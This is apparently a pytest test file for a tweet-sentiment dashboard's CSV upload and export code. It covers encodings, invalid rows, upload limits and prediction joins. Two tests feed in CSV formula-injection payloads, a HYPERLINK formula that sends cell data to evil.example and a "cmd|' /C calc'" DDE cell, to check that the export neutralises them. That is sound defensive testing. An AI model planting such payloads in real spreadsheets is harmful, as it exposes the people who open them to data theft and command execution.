"""CSV batches: reading uploads, finding the tweets, keeping invalid rows, joining predictions back."""

from __future__ import annotations

import io

import pandas as pd
import pytest

from dashboard.batch import BatchError, join_predictions, read_csv, text_column, to_csv_bytes, valid_mask
from dashboard.client import Prediction


def prediction(proba: float) -> Prediction:
    return Prediction("negative" if proba >= 0.5 else "not_negative", proba, 0.5, "baseline:run")


def test_reads_utf8_and_latin1_files_as_text():
    utf8 = read_csv("id,text\n1,café ✈ 😡\n".encode())
    latin1 = read_csv("id,text\n1,café\n".encode("latin-1"))
    assert utf8.loc[0, "text"] == "café ✈ 😡"
    assert latin1.loc[0, "text"] == "café"
    assert utf8.loc[0, "id"] == "1"  # every column stays a string: ids and codes are not reformatted


def test_text_column_is_found_by_name_or_as_the_only_column():
    assert text_column(pd.DataFrame(columns=["id", "Text"])) == "Text"
    assert text_column(pd.DataFrame(columns=["tweet"])) == "tweet"
    with pytest.raises(BatchError, match=r"needs a 'text' column with the tweets \(columns found: id, tweet\)"):
        text_column(pd.DataFrame(columns=["id", "tweet"]))


def test_empty_or_broken_uploads_are_plain_errors():
    with pytest.raises(BatchError, match="empty"):
        read_csv(b"  \n")
    with pytest.raises(BatchError, match="not a readable CSV"):
        read_csv(b'a,b\n1,"unterminated\n')


def test_invalid_rows_are_kept_with_valid_false_and_no_prediction():
    frame = read_csv(b'id,text\n1,I hate delays\n2,\n3,"   "\n4,"great, thanks"\n')
    valid = valid_mask(frame["text"])
    assert valid.tolist() == [True, False, False, True]

    scored = join_predictions(frame, valid, [prediction(0.9), prediction(0.1)])
    assert scored.columns.tolist() == ["id", "text", "valid", "label", "proba_negative", "threshold", "model_version"]
    assert scored["label"].tolist() == ["negative", None, None, "not_negative"]
    assert scored["proba_negative"].iloc[[0, 3]].tolist() == [0.9, 0.1]
    assert scored["proba_negative"].iloc[[1, 2]].isna().all()

    round_trip = pd.read_csv(io.BytesIO(to_csv_bytes(scored)), keep_default_na=False)
    assert round_trip["text"].tolist() == ["I hate delays", "", "   ", "great, thanks"]
    assert round_trip["valid"].tolist() == [True, False, False, True]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_the_download_cannot_run_a_spreadsheet_formula(start):
    hostile = f'{start}HYPERLINK("http://evil.example/?"&A1,"click")'
    frame = pd.DataFrame({"text": [hostile, "fine tweet"], f"{start}cmd|' /C calc'!A0": ["x", "=1+1"]})
    valid = valid_mask(frame["text"])
    scored = join_predictions(frame, valid, [prediction(0.9), prediction(0.1)])
    round_trip = pd.read_csv(io.BytesIO(to_csv_bytes(scored)), dtype=str, keep_default_na=False)
    assert round_trip["text"].tolist() == ["'" + hostile, "fine tweet"]
    assert round_trip.columns[1] == f"'{start}cmd|' /C calc'!A0"
    assert round_trip.iloc[:, 1].tolist() == ["x", "'=1+1"]
    assert float(round_trip["proba_negative"][0]) == 0.9  # numbers pass unchanged


def test_an_oversized_upload_is_refused_with_its_size_and_the_limit(monkeypatch):
    monkeypatch.setenv("MAX_UPLOAD_BYTES", "1048576")
    with pytest.raises(BatchError, match=r"The file is 2\.0 MiB; the dashboard takes files up to 1\.0 MiB"):
        read_csv(b"text\n" + b"late again\n" * (2 * 1024 * 1024 // 11 + 1))


def test_an_upload_over_the_row_limit_is_refused_naming_the_limit(monkeypatch):
    monkeypatch.setenv("MAX_UPLOAD_ROWS", "1000")
    assert len(read_csv(b"text\n" + b"late again\n" * 1000)) == 1000
    with pytest.raises(BatchError, match=r"The file has 1,001 rows; the dashboard scores up to 1,000 per file"):
        read_csv(b"text\n" + b"late again\n" * 1001)


def test_a_carriage_return_inside_a_tweet_keeps_its_row_whole():
    frame = pd.DataFrame({"text": ["late\ragain", "lost\nbag", "ok"]})
    scored = join_predictions(frame, valid_mask(frame["text"]), [prediction(0.9), prediction(0.8), prediction(0.1)])
    round_trip = pd.read_csv(io.BytesIO(to_csv_bytes(scored)), dtype=str, keep_default_na=False)
    assert round_trip["text"].tolist() == ["late\ragain", "lost\nbag", "ok"]


@pytest.mark.parametrize(
    ("cell", "safe"),
    [
        ("x;=1+1", "x;'=1+1"),
        ('ok, =HYPERLINK("http://evil")', 'ok, \'=HYPERLINK("http://evil")'),
        ("a|@SUM(A1)", "a|'@SUM(A1)"),
        ("a\t+1", "a\t'+1"),
        ("=1+1;=2", "'=1+1;'=2"),
        ("late again; sorry", "late again; sorry"),
    ],
)
def test_a_formula_after_any_list_separator_is_made_inert(cell, safe):
    frame = pd.DataFrame({"text": [cell]})
    scored = join_predictions(frame, valid_mask(frame["text"]), [prediction(0.9)])
    round_trip = pd.read_csv(io.BytesIO(to_csv_bytes(scored)), dtype=str, keep_default_na=False)
    assert round_trip["text"].tolist() == [safe]


def test_a_file_over_the_column_limit_is_refused_before_its_rows_are_read(monkeypatch):
    monkeypatch.setenv("MAX_UPLOAD_COLUMNS", "5")
    assert list(read_csv(b"a,b,c,d,text\n1,2,3,4,late again\n").columns) == ["a", "b", "c", "d", "text"]
    with pytest.raises(BatchError, match=r"about 6 columns; the dashboard takes up to 5 \(MAX_UPLOAD_COLUMNS\)"):
        read_csv(b"a,b,c,d,e,text\n" + b"1,2,3,4,5,late again\n" * 10)
